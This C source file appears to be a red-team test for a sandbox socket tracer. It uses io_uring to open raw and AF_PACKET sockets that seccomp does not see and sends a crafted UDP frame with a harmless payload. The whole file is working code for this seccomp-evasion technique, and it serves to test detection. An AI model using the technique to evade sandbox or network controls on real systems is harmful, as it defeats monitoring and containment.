/*
 * attack_uring: sockets made by io_uring (IORING_OP_SOCKET), which seccomp
 * never sees, of kinds no cgroup hook gates (sockstrace red-team tests).
 *
 *   attack_uring packet-udp HOST4 PORT   an AF_PACKET socket, then a whole
 *                                        Ethernet frame (IPv4, UDP to
 *                                        HOST4:PORT) written on the loopback
 *                                        device with IORING_OP_SENDMSG
 *   attack_uring raw-udp HOST4 PORT      an AF_INET SOCK_RAW IPPROTO_UDP
 *                                        socket, then a UDP header and
 *                                        payload to HOST4:PORT
 *
 * Output as uringprobe's: "setup: ok", "uring-socket: ok" or
 * "uring-socket: errno=N (message)", ... Exit status 0 when every step
 * succeeded, 1 otherwise, 2 on usage errors.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <liburing.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void say(const char *op, int res) {
    if (res < 0)
        printf("%s: errno=%d (%s)\n", op, -res, strerror(-res));
    else
        printf("%s: ok\n", op);
    fflush(stdout);
}

static void usage(void) {
    fprintf(stderr, "usage: attack_uring packet-udp HOST4 PORT | raw-udp HOST4 PORT\n");
    exit(2);
}

static int run_one(struct io_uring *ring) {
    int r = io_uring_submit(ring);
    if (r < 0)
        return r;
    struct io_uring_cqe *cqe;
    r = io_uring_wait_cqe(ring, &cqe);
    if (r < 0)
        return r;
    int res = cqe->res;
    io_uring_cqe_seen(ring, cqe);
    return res;
}

static uint16_t ip_checksum(const void *data, size_t len) {
    const uint8_t *p = data;
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static const char payload[] = "attack-uring";

/* A UDP header and the payload (checksum 0: none, allowed over IPv4). */
static size_t udp(uint8_t *out, uint16_t port) {
    size_t len = 8 + sizeof(payload) - 1;
    uint16_t h[4] = {htons(40000), htons(port), htons((uint16_t)len), 0};
    memcpy(out, h, 8);
    memcpy(out + 8, payload, sizeof(payload) - 1);
    return len;
}

static int sendmsg_one(struct io_uring *ring, int fd, void *buf, size_t len, void *name, socklen_t namelen) {
    struct iovec iov = {buf, len};
    struct msghdr mh;
    memset(&mh, 0, sizeof(mh));
    mh.msg_name = name;
    mh.msg_namelen = namelen;
    mh.msg_iov = &iov;
    mh.msg_iovlen = 1;
    struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
    io_uring_prep_sendmsg(sqe, fd, &mh, 0);
    return run_one(ring);
}

int main(int argc, char **argv) {
    if (argc != 4)
        usage();
    struct in_addr dst;
    if (inet_pton(AF_INET, argv[2], &dst) != 1)
        usage();
    uint16_t port = (uint16_t)atoi(argv[3]);
    int packet = !strcmp(argv[1], "packet-udp");
    if (!packet && strcmp(argv[1], "raw-udp"))
        usage();

    struct io_uring ring;
    int r = io_uring_queue_init(8, &ring, 0);
    say("setup", r);
    if (r < 0)
        return 1;
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    if (packet)
        io_uring_prep_socket(sqe, AF_PACKET, SOCK_RAW, htons(ETH_P_IP), 0);
    else
        io_uring_prep_socket(sqe, AF_INET, SOCK_RAW, IPPROTO_UDP, 0);
    int fd = run_one(&ring);
    say("uring-socket", fd);
    if (fd < 0)
        return 1;

    uint8_t frame[128];
    memset(frame, 0, sizeof(frame));
    if (packet) {
        /* Ethernet (loopback: zero addresses), IPv4, UDP. */
        frame[12] = 0x08;
        uint8_t *ip = frame + 14;
        size_t ulen = udp(ip + 20, port);
        ip[0] = 0x45;
        uint16_t tot = htons((uint16_t)(20 + ulen));
        memcpy(ip + 2, &tot, 2);
        ip[8] = 64;
        ip[9] = IPPROTO_UDP;
        struct in_addr src;
        inet_pton(AF_INET, "127.0.0.1", &src);
        memcpy(ip + 12, &src, 4);
        memcpy(ip + 16, &dst, 4);
        uint16_t sum = ip_checksum(ip, 20);
        memcpy(ip + 10, &sum, 2);
        struct sockaddr_ll sll;
        memset(&sll, 0, sizeof(sll));
        sll.sll_family = AF_PACKET;
        sll.sll_protocol = htons(ETH_P_IP);
        sll.sll_ifindex = 1; /* lo */
        sll.sll_halen = ETH_ALEN;
        r = sendmsg_one(&ring, fd, frame, 14 + 20 + ulen, &sll, sizeof(sll));
    } else {
        size_t ulen = udp(frame, port);
        struct sockaddr_in sin;
        memset(&sin, 0, sizeof(sin));
        sin.sin_family = AF_INET;
        sin.sin_addr = dst;
        r = sendmsg_one(&ring, fd, frame, ulen, &sin, sizeof(sin));
    }
    say("uring-sendmsg", r);
    close(fd);
    return r < 0 ? 1 : 0;
}
